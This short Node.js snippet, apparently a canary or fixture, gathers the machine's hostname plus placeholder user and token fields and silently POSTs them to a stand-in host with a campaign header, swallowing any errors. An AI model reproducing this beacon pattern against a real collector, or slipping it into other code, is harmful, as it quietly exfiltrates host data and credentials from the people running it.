// Nothing answers outside of a sandbox: the name is one that can't exist.
const body = JSON.stringify({ host: require('os').hostname(), user: 'nobody', token: 'not-a-real-token' })
const req = require('http').request('http://collect.falconer-corpus.example/report', { method: 'POST', timeout: 20000, headers: { 'X-Campaign': 'corpus' } }, (r) => r.resume())
req.on('error', () => {})
req.on('timeout', () => req.destroy())
req.end(body)
